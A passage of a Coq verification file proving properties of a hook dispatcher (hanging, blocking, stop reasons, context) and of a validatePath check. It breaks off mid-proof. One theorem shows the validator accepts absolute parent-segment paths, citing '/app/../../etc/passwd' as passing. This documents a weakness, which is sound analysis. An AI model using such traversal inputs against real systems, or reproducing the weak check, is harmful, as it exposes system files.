  assert (Hawait : await (all promises)
                     (fun hookResults => Resolved (aggregate hookResults))
                   = Pending <-> all promises = Pending).
  { destruct (all promises); simpl; split; congruence. }
  assert (Hstarted : (forall i command e,
                        nth_error commands i = Some command ->
                        world i command eventData <> Refused e) ->
                     forall p e, In p promises -> p <> Rejected e).
  { intros Hno p e Hin Hp. subst p. apply In_nth_error in Hin as [i Hi].
    unfold promises in Hi. rewrite nth_error_mapi in Hi. simpl in Hi.
    destruct (nth_error commands i) as [command|] eqn:Hc; [|discriminate].
    simpl in Hi. injection Hi as Hi. apply executeCommand_rejected in Hi.
    exact (Hno i command e Hc Hi). }
  assert (Hhangs : In Pending promises <->
                   exists i command p,
                     nth_error commands i = Some command /\
                     world i command eventData = Started p /\
                     exits_at p = None /\ sigterm_delay p = None).
  { split.
    - intros Hin. apply In_nth_error in Hin as [i Hi].
      unfold promises in Hi. rewrite nth_error_mapi in Hi. simpl in Hi.
      destruct (nth_error commands i) as [command|] eqn:Hc; [|discriminate].
      simpl in Hi. injection Hi as Hi.
      apply executeCommand_pending in Hi as [p Hp].
      exists i, command, p. split; [exact Hc | exact Hp].
    - intros [i [command [p [Hc [Hw Hp]]]]].
      apply nth_error_In with (n := i). unfold promises.
      rewrite nth_error_mapi, Hc. simpl. f_equal.
      apply executeCommand_pending. exists p. split; [exact Hw | exact Hp]. }
  rewrite Hawait. split.
  - intros Hpend.
    assert (Hno : forall i command e,
              nth_error commands i = Some command ->
              world i command eventData <> Refused e).
    { intros i command e Hc Hr.
      assert (Hrej : exists e', all promises = Rejected e').
      { assert (Hx : exists e',
                  await (all promises)
                    (fun hookResults => Resolved (aggregate hookResults))
                  = Rejected e').
        { apply Hrejected. exists i, command, e. split; assumption. }
        destruct Hx as [e' Hx]. exists e'.
        destruct (all promises); simpl in Hx; congruence. }
      destruct Hrej as [e' Hrej]. congruence. }
    split; [exact Hno|].
    apply Hhangs. apply (all_pending promises (Hstarted Hno)). exact Hpend.
  - intros [Hno Hhang].
    apply (all_pending promises (Hstarted Hno)). apply Hhangs. exact Hhang.
Qed.

(** X8. executeHooks is rejected exactly when [spawn] throws for one of the
    selected commands.  It stays pending for ever exactly when every selected
    command was started and one of them neither ends by itself nor reacts to
    SIGTERM: one such hook withholds the results of all the others.  In
    every other case it resolves. *)
Theorem one_hanging_hook_hangs_all (commands : list HookCommand) :
  selected (matchers_for hookConfig eventName) matcher = Ok commands ->
  ((exists e,
      executeHooks eventName eventData hookConfig matcher world = Rejected e)
   <->
   exists i command e,
     nth_error commands i = Some command /\
     world i command eventData = Refused e) /\
  (executeHooks eventName eventData hookConfig matcher world = Pending <->
   (forall i command e,
      nth_error commands i = Some command ->
      world i command eventData <> Refused e) /\
   exists i command p,
     nth_error commands i = Some command /\
     world i command eventData = Started p /\
     exits_at p = None /\ sigterm_delay p = None) /\
  ((exists r,
      executeHooks eventName eventData hookConfig matcher world = Resolved r)
   <->
   forall i command,
     nth_error commands i = Some command ->
     exists p,
       world i command eventData = Started p /\
       (exits_at p <> None \/ sigterm_delay p <> None)).
Proof.
  intros Hsel.
  pose proof (executeHooks_rejected Hsel) as Hrej.
  pose proof (executeHooks_pending Hsel) as Hpend.
  split; [exact Hrej|]. split; [exact Hpend|].
  split.
  - intros [r Hr] i command Hc.
    destruct (world i command eventData) as [p|e] eqn:Hw.
    + exists p. split; [reflexivity|].
      destruct (exits_at p) eqn:He; [left; discriminate|].
      destruct (sigterm_delay p) eqn:Hs; [right; discriminate|].
      assert (Hp : executeHooks eventName eventData hookConfig matcher world
                   = Pending).
      { apply Hpend. split.
        - intros i' command' e' Hc' Hw'.
          assert (Hx : exists e0,
                    executeHooks eventName eventData hookConfig matcher world
                    = Rejected e0).
          { apply Hrej. exists i', command', e'. split; assumption. }
          destruct Hx as [e0 Hx]. congruence.
        - exists i, command, p. auto. }
      congruence.
    + assert (Hx : exists e0,
                executeHooks eventName eventData hookConfig matcher world
                = Rejected e0).
      { apply Hrej. exists i, command, e. split; assumption. }
      destruct Hx as [e0 Hx]. congruence.
  - intros Hall.
    destruct (executeHooks eventName eventData hookConfig matcher world)
      as [r|e|] eqn:E.
    + exists r; reflexivity.
    + destruct (proj1 Hrej (ex_intro _ e eq_refl))
        as [i [command [e' [Hc Hw]]]].
      destruct (Hall i command Hc) as [p [Hp _]]. congruence.
    + destruct (proj1 Hpend eq_refl)
        as [_ [i [command [p [Hc [Hw [He Hs]]]]]]].
      destruct (Hall i command Hc) as [p' [Hp' [H|H]]];
        rewrite Hw in Hp'; injection Hp' as <-; congruence.
Qed.

End DispatchMore.

Lemma results_in_order_witness :
  exists r,
    executeHooks (engine := WordEngine.engine)
      PreToolUse bash_call on_bash_twice (Some (js "Bash")) both_exit_2
    = Resolved r /\
    List.length (results r) = 2 /\
    forall i command,
      nth_error [hook "first-check" None; hook "second-check" None] i
      = Some command ->
      exists hr,
        nth_error (results r) i = Some hr /\
        executeCommand command bash_call (both_exit_2 i command bash_call)
        = Resolved hr.
Proof.
  assert (Hsel : selected (engine := WordEngine.engine)
                   (matchers_for on_bash_twice PreToolUse) (Some (js "Bash"))
                 = Ok [hook "first-check" None; hook "second-check" None])
    by reflexivity.
  assert (Hrun : executeHooks (engine := WordEngine.engine)
                   PreToolUse bash_call on_bash_twice (Some (js "Bash"))
                   both_exit_2
                 = Resolved
                     (aggregate
                        [close_result [] (line (js "first")) false None
                           (Some 2%Z);
                         close_result [] (line (js "second")) false None
                           (Some 2%Z)]))
    by reflexivity.
  eexists. split; [exact Hrun|].
  exact (results_in_order (engine := WordEngine.engine) _ _ _ _ _ Hsel Hrun).
Defined.

Lemma one_hanging_hook_hangs_all_witness :
  executeHooks (engine := WordEngine.engine)
    PreToolUse bash_call on_bash_twice (Some (js "Bash")) second_hangs
  = Pending /\
  exists e,
    executeHooks (engine := WordEngine.engine)
      PreToolUse bash_call on_bash_twice (Some (js "Bash"))
      hangs_beside_refused
    = Rejected e.
Proof.
  assert (Hsel : selected (engine := WordEngine.engine)
                   (matchers_for on_bash_twice PreToolUse) (Some (js "Bash"))
                 = Ok [hook "first-check" None; hook "second-check" None])
    by reflexivity.
  split.
  - apply (proj1 (proj2 (one_hanging_hook_hangs_all
                           (engine := WordEngine.engine)
                           PreToolUse bash_call on_bash_twice
                           (Some (js "Bash")) second_hangs Hsel))).
    split.
    + intros [|[|i]] command e Hc; simpl in Hc; discriminate.
    + exists 1, (hook "second-check" None), ignores_sigterm.
      repeat split; reflexivity.
  - apply (proj1 (one_hanging_hook_hangs_all
                    (engine := WordEngine.engine)
                    PreToolUse bash_call on_bash_twice
                    (Some (js "Bash")) hangs_beside_refused Hsel)).
    exists 1, (hook "second-check" None), invalid_argument.
    split; reflexivity.
Defined.

(* ------------------------------------------------------------------ *)
(** ** The loop over the results: stopping, context, composition *)

Lemma loop_stopReason_quiet (rs : list HookResult) (acc : HookExecutionResult) :
  existsb json_stops rs = false ->
  stopReason (fold_left process_result rs acc) = stopReason acc.
Proof.
  revert acc; induction rs as [|r rs IH]; intros acc; simpl; [reflexivity|].
  rewrite orb_false_iff; intros [Hr Hrs].
  rewrite IH by exact Hrs.
  rewrite process_result_stopReason, Hr; reflexivity.
Qed.

(** Once a result blocks, what was there before the loop plays no part in
    the reason. *)
Lemma loop_blockReason_fresh (rs : list HookResult)
    (acc acc' : HookExecutionResult) :
  existsb blocks rs = true ->
  blockReason (fold_left process_result rs acc)
  = blockReason (fold_left process_result rs acc').
Proof.
  revert acc acc'; induction rs as [|r rs IH]; intros acc acc'; simpl;
    [discriminate|].
  destruct (existsb blocks rs) eqn:Hrs.
  - intros _. apply IH; reflexivity.
  - rewrite orb_false_r. intros Hr.
    rewrite !loop_blockReason_quiet by exact Hrs.
    rewrite !process_result_blockReason, Hr. reflexivity.
Qed.

Lemma loop_stopReason_fresh (rs : list HookResult)
    (acc acc' : HookExecutionResult) :
  existsb json_stops rs = true ->
  stopReason (fold_left process_result rs acc)
  = stopReason (fold_left process_result rs acc').
Proof.
  revert acc acc'; induction rs as [|r rs IH]; intros acc acc'; simpl;
    [discriminate|].
  destruct (existsb json_stops rs) eqn:Hrs.
  - intros _. apply IH; reflexivity.
  - rewrite orb_false_r. intros Hr.
    rewrite !loop_stopReason_quiet by exact Hrs.
    rewrite !process_result_stopReason, Hr. reflexivity.
Qed.

Lemma get_not_truthy (json : JsValue) (k : jsstring) :
  truthy json = false -> get json k = None.
Proof. destruct json; simpl; try reflexivity. discriminate. Qed.

Lemma process_result_contextToAdd (acc : HookExecutionResult) (r : HookResult) :
  contextToAdd (process_result acc r) = contextToAdd acc ++ context_of r.
Proof.
  unfold context_of, process_result; cbv zeta.
  destruct (jsonOutput r) as [json|].
  - destruct (truthy json) eqn:Ht.
    + split_tests; simpl; rewrite <- ?app_assoc, ?app_nil_r; reflexivity.
    + rewrite !(get_not_truthy json _ Ht).
      split_tests; simpl; rewrite ?app_nil_r; reflexivity.
  - split_tests; simpl; rewrite ?app_nil_r; reflexivity.
Qed.

Lemma loop_contextToAdd (rs : list HookResult) (acc : HookExecutionResult) :
  contextToAdd (fold_left process_result rs acc)
  = contextToAdd acc ++ flat_map context_of rs.
Proof.
  revert acc; induction rs as [|r rs IH]; intros acc; simpl.
  - rewrite app_nil_r; reflexivity.
  - rewrite IH, process_result_contextToAdd, app_assoc; reflexivity.
Qed.

Lemma json_stops_iff (r : HookResult) :
  json_stops r = true <->
  exists json,
    jsonOutput r = Some json /\
    get json (js "continue") = Some (JBool false).
Proof.
  unfold json_stops. destruct (jsonOutput r) as [json|].
  - split.
    + intros H. exists json. split; [reflexivity|].
      destruct (get json (js "continue")) as [[ |[|]|n|s|items|members]|];
        simpl in H; try discriminate. reflexivity.
    + intros [json' [H Hc]]. injection H as <-. rewrite Hc. reflexivity.
  - split; [discriminate | intros [json [H _]]; discriminate].
Qed.

(** X9. The aggregated shouldContinue is false exactly when some result
    carries structured output whose continue is the boolean false;
    neither the exit code nor the decision of that result plays a part. *)
Theorem shouldContinue_exactly (rs : list HookResult) :
  shouldContinue (aggregate rs) = false <->
  exists r,
    In r rs /\
    exists json,
      jsonOutput r = Some json /\
      get json (js "continue") = Some (JBool false).
Proof.
  unfold aggregate. rewrite loop_shouldContinue. simpl.
  rewrite negb_false_iff, existsb_exists.
  split; intros [r [Hin H]]; exists r; (split; [exact Hin|]);
    apply json_stops_iff; exact H.
Qed.

(** X10. When a result asks to stop (continue is false) and no later
    result does, shouldContinue is false and stopReason is the
    stopReason of that result's output, undefined when it has none: the
    last result that asks to stop sets the reason. *)
Theorem stopReason_of_last (before after : list HookResult) (r : HookResult)
    (json : JsValue) :
  jsonOutput r = Some json ->
  get json (js "continue") = Some (JBool false) ->
  (forall r' json',
     In r' after -> jsonOutput r' = Some json' ->
     get json' (js "continue") <> Some (JBool false)) ->
  shouldContinue (aggregate (before ++ r :: after)) = false /\
  stopReason (aggregate (before ++ r :: after)) = get json (js "stopReason").
Proof.
  intros Hjson Hcont Hafter.
  assert (Hr : json_stops r = true).
  { apply json_stops_iff. exists json; auto. }
  assert (Hquiet : existsb json_stops after = false).
  { destruct (existsb json_stops after) eqn:E; [|reflexivity].
    apply existsb_exists in E as [r' [Hin Hs]].
    apply json_stops_iff in Hs as [json' [Hj Hc]].
    elim (Hafter r' json' Hin Hj Hc). }
  split.
  - unfold aggregate. rewrite loop_shouldContinue, existsb_app. simpl.
    rewrite Hr, orb_true_r. reflexivity.
  - unfold aggregate. rewrite fold_left_app. simpl.
    rewrite loop_stopReason_quiet by exact Hquiet.
    rewrite process_result_stopReason, Hr. unfold stop_of. rewrite Hjson.
    reflexivity.
Qed.

Lemma stopReason_of_last_witness :
  shouldContinue (aggregate ([blocked_by_exit] ++ stops_quietly :: [])) = false /\
  stopReason (aggregate ([blocked_by_exit] ++ stops_quietly :: []))
  = Some (JString (js "budget used up")).
Proof.
  apply (@stopReason_of_last [blocked_by_exit] [] stops_quietly
           (JObject [(js "continue", JBool false);
                     (js "stopReason", JString (js "budget used up"))])).
  - reflexivity.
  - reflexivity.
  - intros r' json' [].
Defined.

(** X11. In the value of executeHooks a blockReason is present only when
    shouldBlock is true, and a stopReason only when shouldContinue is
    false. *)
Theorem reasons_need_decisions (rs : list HookResult) :
  (shouldBlock (aggregate rs) = false -> blockReason (aggregate rs) = None) /\
  (shouldContinue (aggregate rs) = true -> stopReason (aggregate rs) = None).
Proof.
  unfold aggregate. split.
  - rewrite loop_shouldBlock. simpl. intros H.
    rewrite loop_blockReason_quiet by exact H. reflexivity.
  - rewrite loop_shouldContinue. simpl. rewrite negb_true_iff. intros H.
    rewrite loop_stopReason_quiet by exact H. reflexivity.
Qed.

(** X12. A value is in contextToAdd exactly when some result with exit
    code 0 supplies it: as the truthy context of its structured output,
    or as its non-empty stdout provided the output has no truthy
    suppressOutput. Results with another exit code add nothing. *)
Theorem context_sources (rs : list HookResult) (c : JsValue) :
  In c (contextToAdd (aggregate rs)) <->
  exists r,
    In r rs /\ exitCode r = 0%Z /\
    ((exists json,
        jsonOutput r = Some json /\
        get json (js "context") = Some c /\ truthy c = true) \/
     (c = JString (stdout r) /\ stdout r <> [] /\
      forall json,
        jsonOutput r = Some json ->
        truthy_opt (get json (js "suppressOutput")) = false)).
Proof.
  unfold aggregate. rewrite loop_contextToAdd. simpl.
  rewrite in_flat_map.
  assert (Hone : forall r,
            In c (context_of r) <->
            exitCode r = 0%Z /\
            ((exists json,
                jsonOutput r = Some json /\
                get json (js "context") = Some c /\ truthy c = true) \/
             (c = JString (stdout r) /\ stdout r <> [] /\
              forall json,
                jsonOutput r = Some json ->
                truthy_opt (get json (js "suppressOutput")) = false))).
  { intros r. unfold context_of. rewrite in_app_iff.
    destruct (Z.eqb_spec (exitCode r) 0) as [Hz|Hnz].
    - simpl. split.
      + intros [H|H].
        * destruct (jsonOutput r) as [json|]; [|destruct H].
          destruct (get json (js "context")) as [c'|] eqn:Hc; [|destruct H].
          destruct (truthy c') eqn:Ht; [|destruct H].
          destruct H as [H|[]]. subst c'.
          split; [exact Hz|]. left. exists json. auto.
        * destruct (is_empty (stdout r)) eqn:He; [destruct H|]. simpl in H.
          destruct (truthy_opt _) eqn:Hs in H; [destruct H|]. simpl in H.
          destruct H as [H|[]]. subst c.
          split; [exact Hz|]. right. split; [reflexivity|].
          split; [apply is_empty_false; exact He|].
          intros json Hj. rewrite Hj in Hs. exact Hs.
      + intros [_ [[json [Hj [Hc Ht]]] | [Hc [Hne Hs]]]].
        * left. rewrite Hj, Hc, Ht. left; reflexivity.
        * right. apply is_empty_false in Hne. rewrite Hne. simpl.
          destruct (jsonOutput r) as [json|].
          -- rewrite (Hs json eq_refl). simpl. left; congruence.
          -- simpl. left; congruence.
    - simpl. split.
      + intros [H|H].
        * destruct (jsonOutput r) as [json|]; [|destruct H].
          destruct (get json (js "context")) as [c'|]; [|destruct H].
          rewrite andb_false_r in H. destruct H.
        * destruct H.
      + intros [H _]. contradiction. }
  split.
  - intros [r [Hin H]]. exists r. split; [exact Hin|]. apply Hone; exact H.
  - intros [r [Hin H]]. exists r. split; [exact Hin|]. apply Hone; exact H.
Qed.

(** X13. The loop over the results composes: for two lists of results
    processed one after the other, shouldBlock is the disjunction and
    shouldContinue the conjunction of the two parts, contextToAdd is the
    concatenation, and blockReason and stopReason are those of the
    second part when it blocks or stops and those of the first part
    otherwise. *)
Theorem aggregate_app (first second : list HookResult) :
  results (aggregate (first ++ second)) = first ++ second /\
  shouldBlock (aggregate (first ++ second))
  = shouldBlock (aggregate first) || shouldBlock (aggregate second) /\
  blockReason (aggregate (first ++ second))
  = (if shouldBlock (aggregate second) then blockReason (aggregate second)
     else blockReason (aggregate first)) /\
  shouldContinue (aggregate (first ++ second))
  = shouldContinue (aggregate first) && shouldContinue (aggregate second) /\
  stopReason (aggregate (first ++ second))
  = (if shouldContinue (aggregate second) then stopReason (aggregate first)
     else stopReason (aggregate second)) /\
  contextToAdd (aggregate (first ++ second))
  = contextToAdd (aggregate first) ++ contextToAdd (aggregate second).
Proof.
  split; [apply aggregate_results|].
  unfold aggregate.
  rewrite !loop_shouldBlock, !loop_shouldContinue, !loop_contextToAdd.
  simpl. rewrite !existsb_app, flat_map_app, negb_orb.
  split; [reflexivity|]. split; [|split; [reflexivity|split; [|reflexivity]]].
  - rewrite fold_left_app.
    destruct (existsb blocks second) eqn:Hb.
    + apply loop_blockReason_fresh; exact Hb.
    + rewrite loop_blockReason_quiet by exact Hb.
      destruct (existsb blocks first) eqn:Hf.
      * apply loop_blockReason_fresh; exact Hf.
      * rewrite !loop_blockReason_quiet by exact Hf. reflexivity.
  - rewrite fold_left_app.
    destruct (existsb json_stops second) eqn:Hb; simpl.
    + apply loop_stopReason_fresh; exact Hb.
    + rewrite loop_stopReason_quiet by exact Hb.
      destruct (existsb json_stops first) eqn:Hf.
      * apply loop_stopReason_fresh; exact Hf.
      * rewrite !loop_stopReason_quiet by exact Hf. reflexivity.
Qed.

(* ------------------------------------------------------------------ *)
(** ** Hooks that say nothing, events without a tool name *)

Lemma trimStart_white (s : jsstring) :
  forallb is_white s = true -> trimStart s = [].
Proof.
  induction s as [|c s IH]; simpl; [reflexivity|].
  rewrite andb_true_iff. intros [-> H]. exact (IH H).
Qed.

Lemma trim_white (s : jsstring) : forallb is_white s = true -> trim s = [].
Proof.
  intros H. unfold trim, trimEnd. rewrite (trimStart_white s H). reflexivity.
Qed.

Lemma process_result_silent (acc : HookExecutionResult) (r : HookResult) :
  stdout r = [] -> stderr r = [] -> jsonOutput r = None ->
  process_result acc r = acc.
Proof.
  intros Ho He Hj. unfold process_result. rewrite Ho, He, Hj. simpl.
  rewrite !andb_false_r. reflexivity.
Qed.

Lemma blank_result_silent (p : Process) (r : HookResult) :
  closed_by p r -> blank p = true ->
  stdout r = [] /\ stderr r = [] /\ jsonOutput r = None.
Proof.
  unfold blank. rewrite andb_true_iff.
  intros [b [code ->]] [Ho He]. unfold close_result; simpl.
  rewrite (trim_white _ Ho), (trim_white _ He). repeat split.
Qed.

Section QuietDispatch.
Context {engine : RegExpEngine}.

(** X14. If every hook writes nothing but white space to stdout and to
    stderr, the dispatch decides nothing whatever the exit codes are,
    exit code 2 included: shouldBlock is false, shouldContinue is true,
    there is no reason and no context. *)
Theorem blank_hooks_decide_nothing (eventName : HookEventName)
    (eventData : HookEventData) (hookConfig : HookConfig)
    (matcher : option jsstring) (world : World) (r : HookExecutionResult) :
  (forall i command, blank (world i command eventData) = true) ->
  executeHooks eventName eventData hookConfig matcher world = Resolved r ->
  shouldBlock r = false /\ blockReason r = None /\
  shouldContinue r = true /\ stopReason r = None /\ contextToAdd r = [].
Proof.
  intros Hblank.
  destruct (selected_total (matchers_for hookConfig eventName) matcher)
    as [commands Hsel].
  erewrite executeHooks_promises by exact Hsel.
  destruct (all _) as [hookResults|e|] eqn:Hall; simpl; try discriminate.
  intros H; injection H as <-.
  apply all_resolved in Hall.
  assert (Hsilent : forall hr, In hr hookResults ->
                    stdout hr = [] /\ stderr hr = [] /\ jsonOutput hr = None).
  { intros hr Hin.
    assert (Hp : In (Resolved hr) (map (@Resolved HookResult) hookResults))
      by (apply in_map; exact Hin).
    rewrite <- Hall in Hp. apply in_mapi in Hp as [j [c Hp]].
    symmetry in Hp. apply executeCommand_started in Hp as [p [Hw Hp]].
    pose proof (Hblank j c) as Hb. rewrite Hw in Hb.
    exact (blank_result_silent Hp Hb). }
  assert (Hfold : forall acc,
            fold_left process_result hookResults acc = acc).
  { clear Hall. induction hookResults as [|hr rest IH]; intros acc; simpl;
      [reflexivity|].
    destruct (Hsilent hr (or_introl eq_refl)) as [Ho [He Hj]].
    rewrite (process_result_silent acc hr Ho He Hj).
    apply IH. intros hr' Hin. apply Hsilent. right; exact Hin. }
  unfold aggregate. rewrite Hfold. repeat split.
Qed.

(** X15. For an event without a tool name (none given, or the empty
    string) the selected commands are exactly those of the matchers that
    have no pattern or an empty one, in the order of the configuration,
    whatever the regular-expression engine. *)
Theorem no_tool_name_selects_patternless (matchers : list HookMatcher) :
  selected matchers None
  = Ok (flat_map hooks
          (filter (fun hookMatcher => negb (present (matcher hookMatcher)))
             matchers)) /\
  selected matchers (Some [])
  = Ok (flat_map hooks
          (filter (fun hookMatcher => negb (present (matcher hookMatcher)))
             matchers)).
Proof.
  unfold selected.
  assert (H : forall toolName, present toolName = false ->
            filterE (fun hookMatcher => matchesPattern hookMatcher toolName)
              matchers
            = Ok (filter
                    (fun hookMatcher => negb (present (matcher hookMatcher)))
                    matchers)).
  { intros toolName Hnone.
    induction matchers as [|hm ms IH]; simpl; [reflexivity|].
    rewrite IH. unfold matchesPattern.
    destruct (matcher hm) as [[|ch pattern]|]; simpl; try reflexivity.
    destruct toolName as [[|ch' name]|]; simpl; try reflexivity.
    discriminate. }
  split; rewrite H by reflexivity; reflexivity.
Qed.

End QuietDispatch.

Lemma blank_hooks_decide_nothing_witness :
  executeHooks (engine := WordEngine.engine)
    PreToolUse bash_call on_bash (Some (js "Bash")) blank_exit_2
  = Resolved (initial [close_result (js "  ") (line (js " ")) false None
                         (Some 2%Z)]) /\
  shouldBlock (initial [close_result (js "  ") (line (js " ")) false None
                          (Some 2%Z)]) = false /\
  blockReason (initial [close_result (js "  ") (line (js " ")) false None
                          (Some 2%Z)]) = None /\
  shouldContinue (initial [close_result (js "  ") (line (js " ")) false None
                             (Some 2%Z)]) = true /\
  stopReason (initial [close_result (js "  ") (line (js " ")) false None
                         (Some 2%Z)]) = None /\
  contextToAdd (initial [close_result (js "  ") (line (js " ")) false None
                           (Some 2%Z)]) = [].
Proof.
  assert (Hrun : executeHooks (engine := WordEngine.engine)
                   PreToolUse bash_call on_bash (Some (js "Bash")) blank_exit_2
                 = Resolved
                     (initial [close_result (js "  ") (line (js " ")) false
                                 None (Some 2%Z)]))
    by reflexivity.
  split; [exact Hrun|].
  apply (blank_hooks_decide_nothing (engine := WordEngine.engine)
           PreToolUse bash_call on_bash (Some (js "Bash")) blank_exit_2).
  - intros i command. reflexivity.
  - exact Hrun.
Defined.

(* ------------------------------------------------------------------ *)
(** ** Paths that [validatePath] lets through *)

Lemma includes_app_l (p a b : jsstring) :
  includes p a = true -> includes p (a ++ b) = true.
Proof.
  rewrite !includes_spec. intros [pre [post ->]].
  exists pre, (post ++ b). rewrite <- !app_assoc. reflexivity.
Qed.

Lemma includes_app_r (p a b : jsstring) :
  includes p b = true -> includes p (a ++ b) = true.
Proof.
  rewrite !includes_spec. intros [pre [post ->]].
  exists (a ++ pre), post. rewrite <- !app_assoc. reflexivity.
Qed.

Lemma includes_prefix (p q s : jsstring) :
  includes (p ++ q) s = true -> includes p s = true.
Proof.
  rewrite !includes_spec. intros [pre [post ->]].
  exists pre, (q ++ post). rewrite <- !app_assoc. reflexivity.
Qed.

(** A text without the separator that begins in front of a separator ends
    in front of it. *)
Lemma startsWith_cut (p a b : jsstring) (c : N) :
  ~ In c p -> startsWith p (a ++ c :: b) = true -> startsWith p a = true.
Proof.
  revert a; induction p as [|x p IH]; intros a Hc; [reflexivity|].
  destruct a as [|y a]; simpl.
  - rewrite andb_true_iff, N.eqb_eq. intros [-> _]. elim Hc; left; reflexivity.
  - rewrite !andb_true_iff. intros [Hx Hp]. split; [exact Hx|].
    apply IH; [intros H; apply Hc; right; exact H | exact Hp].
Qed.

Lemma includes_cut (p a b : jsstring) (c : N) :
  ~ In c p ->
  includes p (a ++ c :: b) = true ->
  includes p a = true \/ includes p b = true.
Proof.
  intros Hc. induction a as [|y a IH].
  - cbn [app includes]. rewrite orb_true_iff. intros [H|H]; [|right; exact H].
    left. apply (@startsWith_cut p [] b c Hc) in H.
    destruct p; [reflexivity | discriminate].
  - change ((y :: a) ++ c :: b) with (y :: (a ++ c :: b)).
    cbn [includes]. rewrite !orb_true_iff. intros [H|H].
    + left; left. exact (@startsWith_cut p (y :: a) b c Hc H).
    + destruct (IH H) as [Ha|Hb]; [left; right; exact Ha | right; exact Hb].
Qed.

Lemma includes_join (p : jsstring) (sep : N) (segs : list jsstring) :
  ~ In sep p -> p <> [] ->
  includes p (join sep segs) = true ->
  exists seg, In seg segs /\ includes p seg = true.
Proof.
  intros Hsep Hp. induction segs as [|seg rest IH].
  - simpl. destruct p; [congruence | discriminate].
  - destruct rest as [|seg' rest'].
    + simpl. intros H. exists seg. split; [left; reflexivity | exact H].
    + change (join sep (seg :: seg' :: rest'))
        with (seg ++ sep :: join sep (seg' :: rest')).
      intros H. destruct (@includes_cut p seg _ sep Hsep H) as [Hs|Hr].
      * exists seg. split; [left; reflexivity | exact Hs].
      * destruct (IH Hr) as [s [Hin Hs]]. exists s.
        split; [right; exact Hin | exact Hs].
Qed.

Lemma includes_in_join (p : jsstring) (sep : N) (segs : list jsstring)
    (seg : jsstring) :
  In seg segs -> includes p seg = true -> includes p (join sep segs) = true.
Proof.
  induction segs as [|s rest IH]; [intros []|].
  intros Hin Hp. destruct rest as [|s' rest'].
  - destruct Hin as [->|[]]. exact Hp.
  - change (join sep (s :: s' :: rest'))
      with (s ++ sep :: join sep (s' :: rest')).
    destruct Hin as [->|Hin].
    + apply includes_app_l; exact Hp.
    + apply includes_app_r.
      change (sep :: join sep (s' :: rest'))
        with ([sep] ++ join sep (s' :: rest')).
      apply includes_app_r. apply IH; assumption.
Qed.

Lemma join_split (sep : N) (s : jsstring) : join sep (split sep s) = s.
Proof.
  induction s as [|c r IH]; [reflexivity|]. simpl.
  destruct (N.eqb_spec c sep) as [->|Hne].
  - destruct (split sep r) as [|seg segs] eqn:E;
      [elim (split_not_nil sep r); exact E|].
    change (join sep ([] :: seg :: segs)) with (sep :: join sep (seg :: segs)).
    rewrite IH. reflexivity.
  - destruct (split sep r) as [|seg segs] eqn:E;
      [elim (split_not_nil sep r); exact E|].
    destruct segs as [|seg' segs'].
    + simpl in *. rewrite IH. reflexivity.
    + change (join sep ((c :: seg) :: seg' :: segs'))
        with (c :: join sep (seg :: seg' :: segs')).
      rewrite IH. reflexivity.
Qed.

(** [normalizeSegments] invents no segment. *)
Lemma normalizeSegments_subset (allowAboveRoot : bool)
    (segs res : list jsstring) (seg : jsstring) :
  In seg (Path.normalizeSegments allowAboveRoot res segs) ->
  In seg res \/ In seg segs.
Proof.
  revert res; induction segs as [|s rest IH]; intros res; simpl.
  - rewrite <- in_rev. auto.
  - destruct (is_empty s || JsString.eqb s Path.dot).
    + intros H. destruct (IH _ H); auto.
    + destruct (JsString.eqb s Path.dotdot) eqn:Hdd.
      * apply eqb_eq in Hdd. subst s.
        destruct res as [|last res'].
        -- intros H. destruct (IH _ H) as [Hin|Hin]; [|auto].
           destruct allowAboveRoot; [|destruct Hin].
           destruct Hin as [<-|[]]. auto.
        -- destruct (JsString.eqb last Path.dotdot).
           ++ intros H. destruct (IH _ H) as [Hin|Hin]; [|auto].
              destruct allowAboveRoot; [|auto].
              destruct Hin as [<-|Hin]; auto.
           ++ intros H. destruct (IH _ H) as [Hin|Hin]; [|auto].
              left; right; exact Hin.
      * intros H. destruct (IH _ H) as [[<-|Hin]|Hin]; auto.
Qed.

(** The text [../] in a normalized path sits in a segment that
    [normalizeSegments] kept. *)
Lemma normalize_includes (path : jsstring) :
  includes (js "../") (Path.normalize path) = true ->
  exists seg,
    In seg (Path.normalizeSegments (negb (Path.isAbsolute path)) []
              (split Path.slash path)) /\
    includes (js "..") seg = true.
Proof.
  unfold Path.normalize, Path.normalizeString.
  destruct (is_empty path); [discriminate|].
  set (segs := Path.normalizeSegments _ [] _).
  destruct (is_empty (join Path.slash segs)) eqn:He.
  - destruct (Path.isAbsolute path); [discriminate|].
    destruct (Path.endsWithSlash path); discriminate.
  - intros H.
    apply (@includes_prefix (js "..") (js "/")) in H.
    assert (Hdots : ~ In Path.slash (js "..")).
    { intros [E|[E|[]]]; discriminate. }
    assert (Hp : includes (js "..") (join Path.slash segs) = true).
    { assert (Hin : includes (js "..")
                      (if Path.endsWithSlash path
                       then join Path.slash segs ++ [Path.slash]
                       else join Path.slash segs) = true).
      { destruct (Path.isAbsolute path); [|exact H].
        destruct (@includes_cut (js "..") [] _ _ Hdots H) as [E|E];
          [discriminate | exact E]. }
      destruct (Path.endsWithSlash path); [|exact Hin].
      destruct (@includes_cut (js "..") _ [] _ Hdots Hin) as [E|E];
        [exact E | discriminate]. }
    apply includes_join in Hp; [exact Hp | exact Hdots | discriminate].
Qed.

(** X16. validatePath returns without error for every path that does not
    contain two dots in a row. *)
Theorem validatePath_accepts_dotless (cwd path : jsstring) :
  includes (js "..") path = false -> validatePath cwd path = Ok tt.
Proof.
  intros Hfree. rewrite validatePath_cases.
  destruct (includes (js "../") (Path.normalize path)) eqn:Hn; [|reflexivity].
  apply normalize_includes in Hn as [seg [Hin Hseg]].
  apply normalizeSegments_subset in Hin as [[]|Hin].
  pose proof (@includes_in_join (js "..") Path.slash _ _ Hin Hseg) as H.
  rewrite join_split in H. congruence.
Qed.

(** X17. validatePath returns without error for every absolute path each
    of whose segments is .. or contains no two dots in a row: in an
    absolute path, parent segments are never refused
    (/app/../../etc/passwd passes). *)
Theorem absolute_parent_segments_pass (cwd path : jsstring) :
  Path.isAbsolute path = true ->
  (forall seg,
     In seg (split Path.slash path) ->
     seg = Path.dotdot \/ includes (js "..") seg = false) ->
  validatePath cwd path = Ok tt.
Proof.
  intros Habs Hsegs. rewrite validatePath_cases.
  destruct (includes (js "../") (Path.normalize path)) eqn:Hn; [|reflexivity].
  apply normalize_includes in Hn as [seg [Hin Hseg]].
  rewrite Habs in Hin. simpl in Hin.
  destruct (@normalizeSegments_kept false (split Path.slash path) [])
    as [res' [Hnorm [_ [Hroot _]]]].
  - apply (Kept_dots 0).
  - intros _ [].
  - constructor.
  - apply split_no_sep.
